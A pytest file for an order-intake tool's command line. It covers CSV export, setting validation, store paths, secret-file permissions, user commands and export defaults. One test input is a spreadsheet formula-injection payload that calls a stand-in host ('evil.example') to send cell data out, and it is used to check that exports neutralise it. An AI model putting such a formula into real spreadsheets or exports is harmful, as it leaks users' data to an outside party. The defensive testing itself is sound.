"""The command line against hostile input: formula cells, bad settings, mistyped store paths."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from sqlmodel import select

from intake.cli import main
from models import Settings, Store
from models.tables import Order, OrderLine
from tests.paths import DEMO_REF, SAMPLES


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    url = f"sqlite:///{tmp_path}/cli.db"
    monkeypatch.setenv("INTAKE_DATABASE_URL", url)
    monkeypatch.setenv("INTAKE_CREATE_STORE", "true")
    return url


def load_demo(capsys: pytest.CaptureFixture[str]) -> None:
    refs = [
        f"--{kind}={DEMO_REF / name}"
        for kind, name in [
            ("products", "products.csv"),
            ("customers", "customers.csv"),
            ("customer-refs", "customer_refs.csv"),
        ]
    ]
    assert run(capsys, "catalog", "import", *refs)[0] == 0
    assert run(capsys, "ingest", str(SAMPLES / "emails" / "001.eml"))[0] == 0


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?x="&A1,"ok")', "@SUM(A1:A9)", "+33 1 23", "-2+3", "\tTAB", "\rCR"],
    ids=["equals", "at", "plus", "minus", "tab", "carriage-return"],
)
def test_csv_export_neutralises_formula_cells(capsys, database: str, hostile: str):
    load_demo(capsys)
    store = Store.open(database)
    with store.session() as session:
        order = session.exec(select(Order)).first()
        line = session.exec(select(OrderLine).where(OrderLine.order_id == order.id)).first()
        order.po_number, order.status, line.description = hostile, "accepted", hostile
        session.add_all([order, line])
        session.commit()
    code, out, _ = run(capsys, "export", "--format", "csv", "--status", "accepted")
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert code == 0 and rows
    assert rows[0]["po_number"] == "'" + hostile
    assert rows[0]["description"] == "'" + hostile
    # Numbers stay numbers: a quantity is never quoted.
    assert not rows[0]["quantity"].startswith("'")


@pytest.mark.parametrize(
    ("name", "value", "said"),
    [
        ("INTAKE_DATABASE_URL", "foo", "INTAKE_DATABASE_URL='foo'"),
        ("INTAKE_DATABASE_URL", "mysql://x/y", "unknown database"),
        ("INTAKE_MAX_PDF_PAGES", "lots", "INTAKE_MAX_PDF_PAGES='lots'"),
        ("INTAKE_MAX_PDF_PAGES", "0", "greater than 0"),
        ("INTAKE_ACCEPT_THRESHOLD", "2", "INTAKE_ACCEPT_THRESHOLD"),
        ("INTAKE_ROUTING_MODE", "often", "INTAKE_ROUTING_MODE"),
        ("INTAKE_TIMEZONE", "Europe/Pariss", "unknown time zone"),
        ("INTAKE_SMTP_PORT", "99999", "INTAKE_SMTP_PORT"),
    ],
    ids=[
        "url-garbage",
        "url-other-database",
        "pages-word",
        "pages-zero",
        "threshold",
        "mode",
        "zone",
        "port",
    ],
)
def test_a_wrong_setting_is_one_error_line(
    capsys, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, name: str, value: str, said: str
):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv(name, value)
    code, out, err = run(capsys, "messages")
    assert code == 1 and out == ""
    assert err.startswith("intake: error: environment: ") and said in err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert not (tmp_path / "var").exists()


def test_a_mistyped_store_path_is_refused_not_created(
    capsys, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    monkeypatch.setenv("INTAKE_DATABASE_URL", f"sqlite:///{tmp_path}/intkae.db")
    code, _, err = run(capsys, "messages")
    assert code == 1 and "no store at" in err and "intake init" in err
    assert not (tmp_path / "intkae.db").exists()
    assert run(capsys, "init")[0] == 0
    assert run(capsys, "messages")[0] == 0
    monkeypatch.setenv("INTAKE_DATABASE_URL", f"sqlite:///{tmp_path}/other.db")
    assert run(capsys, "--create-store", "messages")[0] == 0
    assert (tmp_path / "other.db").exists()


def test_the_default_store_is_created_where_make_run_expects_it(
    capsys, monkeypatch: pytest.MonkeyPatch, tmp_path
):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("INTAKE_DATABASE_URL", raising=False)
    assert run(capsys, "messages")[0] == 0
    assert (tmp_path / "var" / "intake.db").exists()


def mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def test_store_password_file_and_session_secret_are_private(
    capsys, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    from review_ui.security import session_secret

    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("INTAKE_DATABASE_URL", raising=False)
    old_umask = os.umask(0o022)
    try:
        demo_user = ("user", "add", "demo", "--role", "admin", "--generate", "--update")
        code, out, _ = run(capsys, *demo_user, "--password-file", "var/demo-password")
        session_secret(Settings(), tmp_path / "var" / "session_secret")
    finally:
        os.umask(old_umask)
    assert mode(tmp_path / "var") == 0o700
    for name in ("intake.db", "demo-password", "session_secret"):
        assert mode(tmp_path / "var" / name) == 0o600, name
    password = (tmp_path / "var" / "demo-password").read_text().strip()
    assert code == 0 and f"password: {password}" in out


def test_user_list_disable_enable_passwd(capsys, database: str, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("NEW_PW", "a-new-password-1")
    assert run(capsys, "user", "add", "carol", "--generate")[0] == 0
    assert run(capsys, "user", "disable", "carol")[0] == 0
    assert "disabled" in run(capsys, "user", "list")[1].split("carol", 1)[1].splitlines()[0]
    assert run(capsys, "user", "enable", "carol")[0] == 0
    assert run(capsys, "user", "passwd", "carol", "--password-env", "NEW_PW")[0] == 0
    store = Store.open(database)
    from models.users import authenticate

    assert authenticate(store, "carol", "a-new-password-1") is not None
    code, _, err = run(capsys, "user", "disable", "nobody")
    assert code == 1 and "no user named 'nobody'" in err


def test_a_busy_review_port_fails_clearly(capsys, database: str):
    import socket

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        code, out, err = run(capsys, "review", "--port", str(port))
    assert code == 1 and "review UI on" not in out
    assert err.startswith(f"intake: error: cannot serve the review UI on 127.0.0.1:{port}")


def test_export_defaults_to_accepted_orders_with_their_number(capsys, database: str):
    load_demo(capsys)
    store = Store.open(database)
    with store.session() as session:
        numbers = [o.id for o in session.exec(select(Order).order_by(Order.id))]
    assert run(capsys, "export", "--format", "csv")[1].splitlines()[1:] == []  # nothing accepted yet
    with store.session() as session:
        order = session.get(Order, numbers[0])
        order.status = "accepted"
        session.add(order)
        session.commit()
    rows = list(csv.DictReader(io.StringIO(run(capsys, "export", "--format", "csv")[1], newline="")))
    assert {row["order_id"] for row in rows} == {str(numbers[0])}
    assert {row["status"] for row in rows} == {"accepted"}
    every = run(capsys, "export", "--format", "jsonl", "--status", "all")[1].splitlines()
    assert len(every) == len(numbers)


def test_messages_table_shows_sender_and_subject_in_120_columns(capsys, database: str):
    load_demo(capsys)
    out = run(capsys, "messages")[1]
    lines = out.splitlines()
    assert lines[0].split()[:3] == ["#", "received", "state"] and "from" in lines[0] and "subject" in lines[0]
    assert all(len(line) <= 120 for line in lines)
    assert "@" in lines[1]  # the sender's address


def test_the_demo_history_lets_confident_orders_through(capsys, database: str):
    history = f"--history={DEMO_REF / 'order_history.csv'}"
    refs = [f"--products={DEMO_REF / 'products.csv'}", f"--customers={DEMO_REF / 'customers.csv'}"]
    for _ in range(2):  # as make run does at every start: loading again changes nothing
        assert run(capsys, "catalog", "import", *refs, history)[0] == 0
    assert run(capsys, "ingest", str(DEMO_REF.parent / "emails"))[0] == 0
    exported = run(capsys, "export", "--format", "jsonl", "--status", "all")[1].splitlines()
    statuses = [json.loads(line)["status"] for line in exported]
    assert statuses.count("accepted") >= 5 and "review" in statuses


def test_a_review_line_of_make_run_says_its_main_reason(capsys, database: str, tmp_path: Path):
    load_demo(capsys)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "001.eml").write_bytes((SAMPLES / "emails" / "001.eml").read_bytes())
    (inbox / "002.eml").write_bytes((SAMPLES / "emails" / "002.eml").read_bytes())
    code, out, _ = run(capsys, "run", "--once", "--drop-folder", str(inbox))
    review = [line for line in out.splitlines() if line.startswith("REVIEW")]
    assert code == 0 and review
    assert all(" - " in line for line in review), review  # "... confidence 0.90 - new customer: ..."
